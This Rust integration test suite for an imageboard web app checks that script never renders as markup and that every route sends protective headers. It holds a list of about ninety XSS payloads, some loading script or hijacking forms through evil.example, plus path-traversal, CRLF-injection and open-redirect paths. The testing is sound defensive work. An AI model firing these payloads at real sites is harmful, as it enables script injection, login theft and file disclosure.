//! Script stays text: in every field, file name, title, query and path, on every page and in all JSON; and every
//! answer carries the headers that would stop it.

use std::collections::HashSet;

use anyhow::{Context as _, Result, ensure};
use reqwest::{Method, StatusCode};
use scraper::{Html, node::Element};
use serde_json::Value;
use triptych_tests::{Answer, Form, Stack, Visitor, http::JSON, pictures};

use crate::shared::{HOSTILE_TITLE, SHARED, TITLE, list, new_thread, number, text};

/// What somebody may try. None of it may become an element, an attribute or an address.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=\"text/javascript\">javascript:alert(1);</script>",
    "<script/x>alert(1)</script/x>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=\"javascript:alert('x');\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<image src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onfocus=alert(1) autofocus x=`",
    "\" style=\"background:url(javascript:alert(1))",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x>",
    "<form action=//evil.example/><input name=pwd><button>Post",
    "</form><form action=//evil.example/>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<plaintext>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'onmouseover='alert(1)",
    "http://evil.example/><script>alert(1)</script>",
    "https://evil.example/`onmouseover=alert(1)`",
    "http://javascript:alert(1)@evil.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x&amp;gt;",
    "&quot; onmouseover=&quot;alert(1)",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    ">>1\" onclick=\"alert(1)",
    ">><script>alert(1)</script>",
    ">>>/b/<img src=x onerror=alert(1)>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{200b}script>alert(1)</script>",
    "<scr\u{ad}ipt>alert(1)</script>",
    "\u{202e}>tpircs<\u{202c} \u{2066}x\u{2069} \u{200f}\u{200e}",
    "\u{feff}<script>alert(1)</script>",
    "\u{2028}alert(1)\u{2029};",
    "İ<script>ſ</ſcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\u{26}\u{23}97;lert(1)>",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}A\u{36b}\u{357}\u{334}\u{362}\u{335}\u{31c}\u{330}\u{354}",
];

/// Elements of our pages, with the attributes that they may have.
const ELEMENTS: &[(&str, &[&str])] = &[
    ("html", &["lang"]),
    ("head", &[]),
    ("meta", &["charset", "name", "content"]),
    ("title", &[]),
    ("link", &["rel", "type", "href"]),
    ("body", &[]),
    ("header", &[]),
    ("nav", &["aria-label"]),
    ("main", &["tabindex"]),
    ("footer", &[]),
    ("svg", &["viewbox", "viewBox", "width", "height", "aria-hidden", "focusable"]),
    ("path", &["d"]),
    ("div", &["dir"]),
    ("span", &["title"]),
    ("p", &["dir"]),
    ("h1", &[]),
    ("h2", &[]),
    ("b", &[]),
    ("br", &[]),
    ("bdi", &["title"]),
    ("code", &[]),
    ("ul", &[]),
    ("li", &[]),
    ("time", &["datetime", "title"]),
    ("article", &["aria-labelledby"]),
    ("figure", &[]),
    ("figcaption", &[]),
    ("a", &["href", "rel", "title", "aria-current"]),
    ("img", &["src", "alt", "width", "height", "loading", "decoding"]),
    ("details", &["open"]),
    ("summary", &[]),
    ("form", &["action", "method", "enctype", "role", "aria-label"]),
    ("label", &["for"]),
    (
        "input",
        &[
            "type",
            "name",
            "value",
            "placeholder",
            "maxlength",
            "autocomplete",
            "dir",
            "accept",
            "multiple",
            "required",
            "checked",
            "form",
            "aria-describedby",
            "readonly",
        ],
    ),
    ("textarea", &["name", "rows", "dir", "aria-describedby", "readonly"]),
    ("select", &["name"]),
    ("option", &["value", "selected"]),
    ("button", &["type"]),
];

/// Checks every element of a document. `origin` is where relative addresses lead.
fn check_markup(html: &Html) -> Result<()> {
    let elements: Vec<&Element> = html.tree.nodes().filter_map(|node| node.value().as_element()).collect();
    ensure!(!elements.is_empty(), "there are no elements");
    for element in elements {
        let name = element.name();
        let known = ELEMENTS.iter().find(|(known, _)| *known == name);
        let (_, attributes) = known.with_context(|| format!("<{name}> is none of our elements: {element:?}"))?;
        for (attribute, value) in element.attrs() {
            ensure!(!attribute.to_lowercase().starts_with("on"), "<{name}> has a handler {attribute}={value:?}");
            let fine = matches!(attribute, "class" | "id") || attributes.contains(&attribute);
            ensure!(fine, "<{name}> may not have {attribute}={value:?}");
            if matches!(attribute, "href" | "src" | "action") {
                check_address(name, attribute, value)?;
            }
        }
    }
    Ok(())
}

fn check_address(element: &str, attribute: &str, value: &str) -> Result<()> {
    let local = value.starts_with('#') || (value.starts_with('/') && !value.starts_with("//") && !value.contains('\\'));
    let web = element == "a" && (value.starts_with("http://") || value.starts_with("https://"));
    ensure!(local || web, "<{element} {attribute}={value:?}> leads to a place that we do not allow");
    Ok(())
}

/// What `com` may hold: the markup of a comment, and nothing of a page.
fn check_comment(com: &str) -> Result<()> {
    let allowed: &[(&str, &[&str])] = &[("br", &[]), ("span", &["class"]), ("a", &["class", "href", "rel"])];
    let html = Html::parse_fragment(com);
    let elements = html.tree.nodes().filter_map(|node| node.value().as_element());
    // The parser puts these two around every fragment, and ignores such tags within it.
    let around = |element: &&Element| matches!(element.name(), "html" | "body") && element.attrs().count() == 0;
    let elements = elements.filter(|element| !around(element));
    for element in elements {
        let known = allowed.iter().find(|(name, _)| *name == element.name());
        let (name, attributes) = known.with_context(|| format!("{element:?} in {com}"))?;
        for (attribute, value) in element.attrs() {
            ensure!(attributes.contains(&attribute), "<{name} {attribute}={value:?}> in {com}");
            ensure!(attribute != "class" || matches!(value, "quote" | "quotelink"), "class {value:?} in {com}");
            if attribute == "href" {
                check_address(name, attribute, value).with_context(|| com.to_owned())?;
            }
        }
        let foreign = element.attr("href").is_some_and(|href| href.starts_with("http"));
        let rel: HashSet<&str> = element.attr("rel").unwrap_or_default().split(' ').collect();
        ensure!(
            !foreign || ["nofollow", "noopener", "noreferrer", "ugc"].iter().all(|word| rel.contains(word)),
            "a link without rel in {com}"
        );
    }
    Ok(())
}

/// The text of a fragment of HTML, as a reader sees it.
fn readable(html: &str) -> String {
    // A parser drops a byte order mark that stands first.
    let fragment = Html::parse_fragment(&format!("x{}", html.replace("<br>", "\n")));
    fragment.root_element().text().collect::<String>().split_off(1)
}

/// Posts every payload in every field of a post at once; answers the thread.
async fn post_payloads(visitor: &Visitor, board: &str) -> Result<i64> {
    let first = PAYLOADS.first().context("no payloads")?;
    let form = Form::thread(first).field("name", first).field("sub", first);
    let thread = visitor
        .must_post(board, &form.file(first, "image/png", pictures::png(rand::random(), 30, 20)?.bytes))
        .await?
        .no;
    for payload in PAYLOADS {
        let name: String = payload.chars().take(75).collect();
        let subject: String = payload.chars().take(100).collect();
        // reqwest escapes quotes and line ends in a file name as browsers do.
        let picture = pictures::png(rand::random(), 30, 20)?;
        let form = Form::reply(thread, payload)
            .field("name", &name)
            .field("sub", &subject)
            .field("email", payload)
            .file(&format!("{payload}.png"), "image/png", picture.bytes);
        let posted = visitor.must_post(board, &form).await;
        posted.with_context(|| format!("the payload {payload:?}"))?;
    }
    Ok(thread)
}

#[tokio::test]
async fn script_in_every_field_comes_out_as_text() -> Result<()> {
    assert!(PAYLOADS.len() >= 60, "{} payloads", PAYLOADS.len());
    let stack = SHARED.get().await?;
    let visitor = Visitor::new(&stack.url())?;
    let thread = post_payloads(&visitor, "x").await?;
    let page = visitor.get(&format!("/x/res/{thread}.html")).await?;
    check_markup(&page.page())?;
    let shown = page.texts("article .text")?;
    let names = page.texts("article bdi.by")?;
    assert_eq!(shown.len(), PAYLOADS.len() + 1, "some comments are missing");
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let comment = shown.get(at + 1).context("no comment")?;
        assert_eq!(comment, payload, "the comment is not what was typed");
        let name: String = payload.chars().take(75).collect();
        assert_eq!(names.get(at + 1).map(String::as_str), Some(name.trim()), "the name is not what was typed");
    }
    let json = visitor.get(&format!("/x/res/{thread}.json")).await?;
    assert!(json.header("Content-Type").starts_with("application/json"), "{:?}", json.headers);
    assert_eq!(json.header("X-Content-Type-Options"), "nosniff");
    let json: Value = json.json()?;
    let posts = list(&json, "/posts")?;
    assert_eq!(posts.len(), PAYLOADS.len() + 1);
    for (post, payload) in posts.iter().skip(1).zip(PAYLOADS) {
        let com = text(post, "/com")?;
        check_comment(com)?;
        assert_eq!(&readable(com), payload);
        let ext = text(post, "/ext")?;
        assert_eq!(ext, ".png", "the file name decides the extension");
    }
    for path in ["/x/", "/x/catalog.html", "/", "/x/0.json", "/x/catalog.json"] {
        let answer = visitor.get(path).await?;
        answer.expect(StatusCode::OK)?;
        if answer.header("Content-Type").starts_with("text/html") {
            check_markup(&answer.page()).with_context(|| path.to_owned())?;
        } else {
            let all: Value = answer.json()?;
            check_all_comments(&all).with_context(|| path.to_owned())?;
        }
    }
    Ok(())
}

/// Checks every `com` in a document, however deep, and counts them.
fn check_all_comments(value: &Value) -> Result<usize> {
    match value {
        Value::Array(items) => items.iter().map(check_all_comments).sum(),
        Value::Object(fields) => fields
            .iter()
            .map(|(name, value)| match value {
                Value::String(com) if name == "com" => check_comment(com).map(|()| 1),
                value => check_all_comments(value),
            })
            .sum(),
        _ => Ok(0),
    }
}

#[tokio::test]
async fn script_in_titles_comes_out_as_text() -> Result<()> {
    let stack = SHARED.get().await?;
    let visitor = Visitor::new(&stack.url())?;
    new_thread(&visitor, "x", "so that there is a page").await?;
    for path in ["/", "/x/", "/x/catalog.html", "/b/", "/shut/", "/nosuch/"] {
        let answer = visitor.get(path).await?;
        check_markup(&answer.page()).with_context(|| path.to_owned())?;
        assert_eq!(answer.texts(".mark span")?, [TITLE], "{path}");
        let titles = answer.texts("title")?;
        assert!(titles.len() == 1 && titles.iter().all(|title| title.contains(TITLE)), "{path}: {titles:?}");
    }
    let page = visitor.get("/x/").await?;
    assert_eq!(page.texts("h1 bdi")?, [HOSTILE_TITLE]);
    assert!(page.attributes("nav.boards a", "title")?.contains(&HOSTILE_TITLE.to_owned()));
    let boards: Value = visitor.get("/boards.json").await?.json()?;
    let titles: Vec<&str> = list(&boards, "/boards")?.iter().filter_map(|board| text(board, "/title").ok()).collect();
    assert!(titles.contains(&HOSTILE_TITLE), "{titles:?}");
    Ok(())
}

/// Percent-encodes everything that is not plain.
fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

#[tokio::test]
async fn script_in_queries_and_paths_comes_out_as_text() -> Result<()> {
    let stack = SHARED.get().await?;
    let visitor = Visitor::new(&stack.url())?;
    new_thread(&visitor, "b", "so that there is a catalogue").await?;
    for payload in PAYLOADS {
        let code = encoded(payload);
        let query = visitor.get(&format!("/b/catalog.html?q={code}&sort={code}")).await?;
        query.expect(StatusCode::OK).with_context(|| format!("the filter {payload:?}"))?;
        check_markup(&query.page()).with_context(|| format!("the filter {payload:?}"))?;
        assert_eq!(query.attributes("input[name=q]", "value")?, [payload.trim()], "the filter is not what was typed");
        for path in [
            format!("/{code}"),
            format!("/{code}/"),
            format!("/b/{code}"),
            format!("/b/res/{code}.html"),
            format!("/b/res/{code}.json"),
            format!("/b/src/{code}.png"),
            format!("/media/{code}.png"),
            format!("/thumb/{code}"),
            format!("/static/{code}.css"),
            format!("/b/?{code}={code}"),
        ] {
            let answer = visitor.get(&path).await?;
            let said = || format!("GET {path}");
            ensure!(answer.status.as_u16() < 500, "{}: {}", said(), answer.status);
            if answer.header("Content-Type").starts_with("text/html") {
                check_markup(&answer.page()).with_context(said)?;
            }
            let location = answer.header("Location");
            ensure!(
                location.is_empty()
                    || (location.starts_with('/') && !location.starts_with("//") && location.is_ascii()),
                "{}: Location {location:?}",
                said()
            );
        }
    }
    // Pieces of paths that mean something to somebody.
    for path in [
        "//evil.example/%2f..",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/b/../../etc/passwd",
        "/b/%00",
        "/b/%ff%fe/",
        "/%0d%0aX-Evil:%201",
        "/b/catalog.html?q=%ff%fe&q=x",
        "/b/catalog.html?q=%00",
        "/\\evil.example/",
    ] {
        let answer = visitor.get(path).await.with_context(|| path.to_owned())?;
        ensure!(answer.status.as_u16() < 500, "{path}: {}", answer.status);
        ensure!(!answer.text().contains("root:x:"), "{path}: {}", answer.text());
        ensure!(answer.header("X-Evil").is_empty(), "{path}: {:?}", answer.headers);
        ensure!(!answer.header("Location").starts_with("//"), "{path}: {:?}", answer.headers);
    }
    Ok(())
}

#[tokio::test]
async fn script_in_a_refused_post_comes_back_as_text() -> Result<()> {
    let stack = SHARED.get().await?;
    let visitor = Visitor::new(&stack.url())?;
    for payload in PAYLOADS {
        let form = Form::thread(payload).field("name", payload).field("sub", payload).field("email", payload);
        let form =
            form.field("key", payload).field("pwd", payload).file(payload, "text/html", payload.as_bytes().to_vec());
        let page = visitor.post("x", &form).await?;
        ensure!(page.status.is_client_error(), "{payload:?}: {}", page.status);
        check_markup(&page.page()).with_context(|| format!("the payload {payload:?}"))?;
        assert_eq!(page.texts("#post textarea")?, [*payload]);
        assert_eq!(page.attributes("#post input[name=name]", "value")?, [*payload]);
        let problem = visitor.accepting(JSON).post("x", &form).await?;
        assert_eq!(problem.header("Content-Type"), "application/problem+json", "{payload:?}");
        assert_eq!(problem.header("X-Content-Type-Options"), "nosniff", "{payload:?}");
    }
    Ok(())
}

const PAGE_POLICY: &str = "default-src 'none'; img-src 'self'; style-src 'self'; script-src 'self'; connect-src 'self'; \
                           form-action 'self'; base-uri 'none'; frame-ancestors 'none'";
const PICTURE_POLICY: &str = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

/// Every kind of address, with the status that a GET gets.
async fn addresses(stack: &Stack, visitor: &Visitor) -> Result<Vec<(String, u16)>> {
    let thread = new_thread(visitor, "b", "headers").await?.no;
    let json: Value = visitor.get(&format!("/b/res/{thread}.json")).await?.json()?;
    let (media, thumb) = (text(&json, "/posts/0/media")?, text(&json, "/posts/0/thumb")?);
    let tim = number(&json, "/posts/0/tim")?;
    let home = Visitor::new(&stack.replica(0)?.url())?.get("/").await?;
    let assets = home.attributes("link[href^='/static/']", "href")?;
    ensure!(assets.len() >= 2, "the home page names {assets:?}");
    let mut addresses: Vec<(String, u16)> = [
        ("/", 200),
        ("/livez", 200),
        ("/readyz", 200),
        ("/b/", 200),
        ("/b", 301),
        ("/b/1.html", 301),
        ("/b/11.html", 404),
        ("/b/index.html", 301),
        ("/b/catalog", 301),
        ("/b/catalog.html", 200),
        ("/b/catalog.html?q=x", 200),
        ("/b/catalog.html?q=a&q=b", 400),
        ("/shut/", 200),
        ("/boards.json", 200),
        ("/b/threads.json", 200),
        ("/b/catalog.json", 200),
        ("/b/archive.json", 200),
        ("/b/0.json", 200),
        ("/b/99.json", 404),
        ("/b/res/2147483000.html", 404),
        ("/b/res/99999999999.html", 404),
        ("/b/res/2147483000.json", 404),
        ("/b/post", 405),
        ("/b/delete", 405),
        ("/nosuch/", 404),
        ("/nosuch", 301),
        ("/no/such/place", 404),
        ("/favicon.ico", 404),
        ("/static/none.css", 404),
        ("/media/none.png", 404),
        ("/thumb/none.png", 404),
        ("/b/src/1.png", 404),
        ("/error/too-large", 413),
    ]
    .map(|(path, status)| (path.to_owned(), status))
    .to_vec();
    addresses.extend(assets.into_iter().map(|asset| (asset, 200)));
    for (path, status) in [
        (media.to_owned(), 200),
        (thumb.to_owned(), 200),
        (format!("/b/src/{tim}.png"), 302),
        (format!("/b/thumb/{tim}.png"), 302),
        (format!("/b/{tim}.png"), 302),
        (format!("/b/{tim}s.jpg"), 302),
        (format!("/b/res/{thread}.html"), 200),
        (format!("/b/res/{thread}.json"), 200),
        (format!("/b/thread/{thread}"), 301),
        (format!("/b/thread/{thread}.json"), 200),
    ] {
        addresses.push((path, status));
    }
    Ok(addresses)
}

fn check_headers(answer: &Answer, path: &str) -> Result<()> {
    let of_pictures = path.starts_with("/media/") || path.starts_with("/thumb/");
    let picture = of_pictures && answer.header("Content-Type").starts_with("image/");
    for (name, wanted) in [
        ("Content-Security-Policy", if picture { PICTURE_POLICY } else { PAGE_POLICY }),
        ("X-Content-Type-Options", "nosniff"),
        ("Referrer-Policy", "same-origin"),
        ("Cross-Origin-Opener-Policy", "same-origin"),
    ] {
        let all: Vec<_> = answer.headers.get_all(name).iter().collect();
        ensure!(all == [wanted], "{name} is {all:?}, not {wanted:?}");
    }
    // A page that has a form gives a newcomer a token; nothing else sets a cookie.
    let has_form = path == "/b/" || (path.starts_with("/b/res/") && path.contains(".html"));
    let is_page = matches!(answer.status, StatusCode::OK | StatusCode::NOT_MODIFIED);
    let cookies: &[&str] = if has_form && is_page { &["triptych_token", "triptych_has_token"] } else { &[] };
    let set = answer.headers.get_all("Set-Cookie").iter().filter_map(|cookie| cookie.to_str().ok()?.split('=').next());
    ensure!(set.eq(cookies.iter().copied()), "other cookies than {cookies:?} are set: {:?}", answer.headers);
    ensure!(
        answer.header("Server").is_empty() || answer.header("Server") == "nginx",
        "Server: {}",
        answer.header("Server")
    );
    ensure!(answer.header("X-Powered-By").is_empty(), "X-Powered-By: {}", answer.header("X-Powered-By"));
    Ok(())
}

#[tokio::test]
async fn every_route_and_every_status_carries_the_headers_that_protect() -> Result<()> {
    let stack = SHARED.get().await?;
    let visitor = Visitor::new(&stack.url())?;
    let direct = visitor.at(&stack.replica(1)?.url());
    let addresses = addresses(stack, &visitor).await?;
    for (path, status) in &addresses {
        for method in [Method::GET, Method::HEAD, Method::OPTIONS, Method::POST, Method::PUT] {
            let said = || format!("{method} {path}");
            let answer = direct.send(direct.request(method.clone(), path)).await.with_context(said)?;
            if matches!(method, Method::GET | Method::HEAD) {
                ensure!(answer.status.as_u16() == *status, "{}: {}, not {status}", said(), answer.status);
            }
            check_headers(&answer, path).with_context(said)?;
        }
        // nginx answers for itself about its files and about other methods for pictures.
        if !path.starts_with("/static/") && path != "/error/too-large" {
            let answer = visitor.get(path).await?;
            ensure!(answer.status.as_u16() == *status, "GET {path} through nginx: {}, not {status}", answer.status);
            check_headers(&answer, path).with_context(|| format!("GET {path} through nginx"))?;
        }
    }
    for (path, _) in addresses.iter().filter(|(path, _)| path.starts_with("/static/")) {
        let answer = visitor.get(path).await?;
        ensure!(answer.header("X-Content-Type-Options") == "nosniff", "{path} through nginx: {:?}", answer.headers);
        ensure!(answer.header("Set-Cookie").is_empty(), "{path} through nginx: {:?}", answer.headers);
    }
    // What a POST gets, and what has not changed.
    let form = Form::thread("headers").picture(&pictures::png(rand::random(), 30, 20)?);
    for form in [form, Form::thread("no picture")] {
        let answer = direct.accepting(JSON).post("b", &form).await?;
        check_headers(&answer, "/b/post").with_context(|| format!("POST with {}", answer.status))?;
    }
    for path in ["/b/", "/boards.json"] {
        let tag = direct.get(path).await?.header("ETag").to_owned();
        let answer = direct.send(direct.request(Method::GET, path).header("If-None-Match", tag)).await?;
        // Another test may have posted in between; both are answers that have to carry the headers.
        ensure!(matches!(answer.status.as_u16(), 200 | 304), "{path}: {}", answer.status);
        check_headers(&answer, path)?;
    }
    Ok(())
}
